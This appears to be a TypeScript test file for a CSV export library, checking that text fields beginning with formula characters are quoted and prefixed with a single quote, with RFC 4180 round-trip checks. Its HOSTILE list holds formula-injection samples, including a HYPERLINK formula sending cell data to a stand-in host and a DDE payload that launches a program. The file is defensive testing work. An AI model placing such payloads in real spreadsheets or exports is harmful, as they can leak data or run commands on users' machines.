import { csvDecimal, csvDocument, csvField, csvRecord, FORMULA_START } from './index';

/** RFC 4180's grammar read back (the test's own reader): records of fields, quotes undone. */
function parse(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field`);
        field += text[i++];
      }
    }
    if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text.startsWith('\r\n', i)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      throw new Error(`expected , or CRLF at ${i}`);
    }
  }
  if (record.length > 0 || field !== '') throw new Error('the last record does not end in CRLF');
  return records;
}

const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', '+1', '-1+1', '@SUM(A1:A9)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0'];

describe('csvField', () => {
  it.each(HOSTILE)('writes text beginning like a formula (%j) quoted, behind a single quote', (text) => {
    const field = csvField(text);
    expect(field.startsWith('"\'')).toBe(true);
    expect(parse(`${field}\r\n`)).toEqual([[`'${text}`]]);
  });

  it('neutralises every one of OWASP\'s six first characters, and only those', () => {
    for (const first of FORMULA_START) expect(csvField(`${first}x`)).toBe(`"'${first}x"`);
    expect(FORMULA_START).toEqual(['=', '+', '-', '@', '\t', '\r']);
    for (const first of ['a', '0', ' ', '\'', '(', '%', '|', '#', '\n']) expect(csvField(`${first}x`)).not.toContain('\'' + first);
  });

  it('leaves plain text as it is and quotes a comma, a quote or a line break (RFC 4180)', () => {
    expect(csvField('acct_1')).toBe('acct_1');
    expect(csvField('2026-01-02T03:04:05.678Z')).toBe('2026-01-02T03:04:05.678Z');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('x=1')).toBe('x=1');
    expect(csvField('')).toBe('');
  });

  it('writes numbers as numbers: a negative amount is data, not a formula', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(0.006)).toBe('0.006');
    expect(csvField(-0.000001)).toBe('-0.000001');
    expect(csvField(csvDecimal('-12.500000'))).toBe('-12.500000');
    expect(csvField(csvDecimal('0'))).toBe('0');
  });

  it('writes text that looks like a negative number as text: the column decides, never the value', () => {
    expect(csvField('-12.500000')).toBe('"\'-12.500000"');
  });

  it('refuses a number it cannot write as one', () => {
    expect(() => csvField(Number.NaN)).toThrow(RangeError);
    expect(() => csvField(Number.POSITIVE_INFINITY)).toThrow(RangeError);
    for (const text of ['=1', '+1', '1e3', '01', '-', '1.', '.5', '1,5', ' 1', '']) expect(() => csvDecimal(text)).toThrow(RangeError);
  });

  it('writes null and undefined as empty fields', () => {
    expect(csvRecord([null, 'a', undefined])).toBe(',a,\r\n');
  });
});

describe('csvDocument', () => {
  it('reads back cell for cell, hostile text neutralised and numbers untouched', () => {
    const text = csvDocument(['name', 'amount_usd', 'note'], [
      ['=HYPERLINK("x"), "promo"', csvDecimal('-5.000000'), 'a,b'],
      ['@SUM(A1)', -0.25, null],
      ['\r=1', 3, 'line\r\nbreak'],
    ]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parse(text)).toEqual([
      ['name', 'amount_usd', 'note'],
      ['\'=HYPERLINK("x"), "promo"', '-5.000000', 'a,b'],
      ['\'@SUM(A1)', '-0.25', ''],
      ['\'\r=1', '3', 'line\r\nbreak'],
    ]);
  });
});
